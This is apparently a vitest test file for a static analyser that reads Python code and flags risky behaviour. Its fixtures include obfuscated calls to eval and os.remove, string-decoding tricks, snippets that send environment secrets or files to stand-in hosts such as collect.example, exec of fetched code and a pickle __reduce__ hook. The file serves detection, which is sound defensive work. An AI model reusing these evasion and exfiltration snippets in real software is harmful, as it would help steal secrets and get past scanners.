import { describe, expect, it } from "vitest";
import { readPython } from "../../../../src/core/classify/python/reader.ts";
import { threadMs } from "../../../support/cpu.ts";
import { findingsOf, type ReaderFindings } from "../../../support/reader-findings.ts";

const read = (text: string): ReaderFindings => findingsOf(readPython, text);

const calls = (text: string): string[] =>
	read(text)
		.facts.filter(({ kind }) => kind === "call")
		.flatMap(({ has }) => has["name"]?.[0] ?? []);

describe("names of what is called", () => {
	it.each([
		["import os\nos.remove('a')", "os.remove"],
		["import os as o\no.remove('a')", "os.remove"],
		["from os import remove as r\nr('a')", "os.remove"],
		["import os\nf = os.remove\nf('a')", "os.remove"],
		["import os\na, b = os.remove, 1\na('a')", "os.remove"],
		["from os import *\nremove('a')", "os.remove"],
		["__import__('os').remove('a')", "os.remove"],
		["import importlib\nimportlib.import_module('o' + 's').remove('a')", "os.remove"],
		["import os\ngetattr(os, 'rem' + 'ove')('a')", "os.remove"],
		["import os\ngetattr(os, 'evomer'[::-1])('a')", "os.remove"],
		["import os\nos.__dict__['remove']('a')", "os.remove"],
		["import os\nvars(os)['remove']('a')", "os.remove"],
		["import sys\nsys.modules['os'].remove('a')", "os.remove"],
		["import posix\nposix.remove('a')", "os.remove"],
		["if (f := eval):\n    f('1')", "eval"],
		["globals()['eval']('1')", "eval"],
		["__builtins__.eval('1')", "eval"],
		["𝓮𝓿𝓪𝓵('1')", "eval"],
		[
			"class A:\n    def __init__(self):\n        self.s = socket.socket()\n    def go(self):\n        self.s.connect(x)",
			"socket.socket().connect",
		],
		["with open('a') as f:\n    f.fancy()", "open().fancy"],
		["import os\nos.remove.__call__('a')", "os.remove"],
		["vars(os).get('remove')('a')", "os.remove"],
		["d = {'x': os.remove}\nd['x']('a')", "os.remove"],
		["d = {'x': os.remove}\nd.get('x')('a')", "os.remove"],
		["p = Popen(['a'])", "subprocess.Popen"],
		["user.is_staff = True", "rights-raised"],
		["x = windll.kernel32\nx.VirtualAlloc(0)", "ctypes.windll.kernel32.VirtualAlloc"],
		["class A:\n    def __reduce__(self):\n        return os.system, ('id')", "os.system"],
	])("%j", (code, name) => expect(calls(code)).toContain(name));

	it.each([
		["model.eval()", "eval"],
		["import re\nre.compile('x')", "compile"],
		["def system(x): ...\nsystem('a')", "system"],
		["class A:\n    def eval(self): ...\nA().eval()", "eval"],
		["# eval(x)\nprint('eval(y)')", "eval"],
		["def rmtree(x): ...\nrmtree('a')", "shutil.rmtree"],
		["user.is_staff = False", "rights-raised"],
		["for one in cls.__subclasses__():\n    one()", "__subclasses__"],
	])("%j calls no %s", (code, name) => expect(calls(code)).not.toContain(name));
});

describe("texts that are put together", () => {
	it.each([
		["'a' + 'b'", "ab"],
		["'a' 'b'", "ab"],
		["f'a{1}b'", "a1b"],
		["f'a {x}'", "a $v"],
		["'%s-%d' % ('a', 2)", "a-2"],
		["'{}{}'.format('a', 'b')", "ab"],
		["''.join(['a', 'b'])", "ab"],
		["''.join(chr(c) for c in (97, 98))", "ab"],
		["''.join(map(chr, [97, 98]))", "ab"],
		["''.join([chr(c ^ 1) for c in [96, 99]])", "ab"],
		["'ba'[::-1]", "ab"],
		["b'ab'.decode()", "ab"],
		["bytes([97, 98]).decode()", "ab"],
		["base64.b64decode('YWI=').decode()", "ab"],
		["bytes.fromhex('6162')", "ab"],
		["codecs.decode('no', 'rot13')", "ab"],
		["'\\x61\\142'", "ab"],
		["'aXb'.replace('X', '')", "ab"],
		["['a', 'b c']", "a 'b c'"],
		["'AB'.lower()", "ab"],
	])("%s", (expression, text) => {
		expect(read(`import os, base64, codecs\nc = ${expression}\nos.system(c)`).within).toContainEqual({
			language: "shell",
			text,
		});
	});

	it("are run in other languages", () => {
		expect(read("eval('os.remove(1)')").within).toContainEqual({ language: "python", text: "os.remove(1)" });
		expect(read("db.execute('DROP TABLE x')").within).toContainEqual({ language: "sql", text: "DROP TABLE x" });
		expect(read("db.execute(plan)").within).toEqual([]);
		expect(read("import requests\nrequests.get('http://h.example')").within).toContainEqual({
			language: "url",
			text: "http://h.example",
		});
	});
});

describe("where a value comes from", () => {
	const carried = (text: string): readonly string[] => read(text).facts.flatMap(({ has }) => has["carries"] ?? []);

	it.each([
		["requests.post(u, data=open('a').read())", "file"],
		["t = os.environ['API_KEY']\nrequests.get(u + t)", "secret"],
		["d = {}\nd['k'] = os.getenv('TOKEN')\nrequests.post(u, json=d)", "secret"],
		["requests.post(u, json=dict(os.environ))", "secret"],
		["n = socket.gethostname()\nrequests.get(f'{u}/{n}')", "host"],
		["exec(requests.get(u).text)", "fetched"],
	])("%j", (code, from) => expect(carried(code)).toContain(from));

	it("is not told of what only says how to ask", () => {
		expect(carried("requests.get(u, headers={'a': os.environ['TOKEN']})")).toEqual([]);
		expect(carried("h = os.environ['HOME']\nrequests.get(u + h)")).toEqual([]);
	});
});

describe("files", () => {
	const paths = (text: string): [string | undefined, string | undefined][] =>
		read(text)
			.facts.filter(({ kind }) => kind === "path")
			.map(({ has }) => [has["path"]?.[0], has["access"]?.[0]]);

	it.each([
		["open('/a/b')", "/a/b", "read"],
		["open('/a/b', 'w')", "/a/b", "write"],
		["open(mode='a', file='/a/b')", "/a/b", "write"],
		["from pathlib import Path\n(Path('/a') / 'b').write_text('x')", "/a/b", "write"],
		["import os\nos.remove(os.path.join('/a', 'b'))", "/a/b", "delete"],
		["from pathlib import Path\nPath('/a/b').unlink()", "/a/b", "delete"],
		["from pathlib import Path\n(Path.home() / '.a' / 'b').read_text()", "~/.a/b", "read"],
	])("%j", (code, path, access) => expect(paths(code)).toContainEqual([path, access]));
});

it.each([
	["x = 1\n!ls -l\ny = 2", "ls -l"],
	["out = !ls -l", "ls -l"],
	["%%bash\nls -l", "ls -l"],
])("%j of a notebook is read as a shell would", (code, line) => {
	expect(read(code).within).toContainEqual({ language: "shell", text: line });
});

it("takes no comparison for a line of a shell", () => {
	expect(read("if a \\\n != b:\n  pass").within).toEqual([]);
});

it("gives spans in the text", () => {
	const code = "import os\nx = os.remove( 'a' )\n";
	const fact = read(code).facts.find(({ has }) => has["name"]?.includes("os.remove"));
	expect(code.slice(...(fact?.span ?? [0, 0]))).toBe("os.remove( 'a' )");
});

it("says that it cannot read what is no Python", () => {
	expect(read("((((]]}{{ ;; ''' $$ ??").facts.map(({ kind }) => kind)).toContain("opaque");
});

it.each([
	"(",
	"a.",
	"f(",
	"x='a'+",
	"x=x+x\n",
	"[0]",
	"{'a':",
	"a if ",
	"f'{",
	"not ",
	"class A:\n ",
	"x=x.replace('a','aaaa')\n",
	" ",
	"Popen\n",
	"with a: pass\n",
	"{'a': Popen}['a']('b')\n",
])("reads %j over and over in time that grows with the text", (part) => {
	const began = threadMs();
	read(`x='a'*4000\n${part.repeat(Math.ceil(30_000 / part.length))}`);
	expect(threadMs() - began).toBeLessThan(2_000);
});

describe("what is read and then sent", () => {
	const sent = (text: string): boolean =>
		read(text).facts.some(
			({ kind, has }) => kind === "call" && has["carries"] !== undefined && has["name"]?.includes("sends") === true,
		);

	it.each([
		"def tell(x):\n    requests.post(u, data=x)\ntell(os.environ['API_TOKEN'])",
		"def pack():\n    return open('a').read()\nput('https://collect.example/x', pack())",
		"import platform\nreport(url='https://collect.example/x', body=platform.node())",
		"class A:\n    def __init__(self):\n        if x:\n            self.k = environ.get('SECRET_KEY')\n        else:\n            self.k = ''\n    def go(self):\n        note('https://collect.example/' + self.k)",
	])("is followed: %j", (code) => expect(sent(code)).toBe(true));

	it.each([
		"def tell(x):\n    print(x)\ntell(os.environ['API_TOKEN'])",
		"import platform\nreport(url='http://localhost:9/x', body=platform.node())",
		"print('https://docs.example/', os.environ['API_TOKEN'])",
	])("is not seen in %j", (code) => expect(sent(code)).toBe(false));
});

describe("modes of files", () => {
	const modes = (text: string): readonly string[] =>
		read(text).facts.flatMap(({ has }) => (has["name"]?.[0] === "os.chmod" ? (has["mode"] ?? []) : []));

	it.each([
		["os.chmod(f, 0o777)", ["execute", "world"]],
		["os.chmod(f, 0o4755)", ["execute", "rights"]],
		["os.chmod(f, 0o600)", []],
		["os.chmod(f, os.stat(f).st_mode | stat.S_IEXEC)", ["execute"]],
		// Of decimal: the bits are others than they seem.
		["os.chmod(f, 777)", ["execute"]],
	])("%s", (code, expected) => expect(modes(code)).toEqual(expected));
});
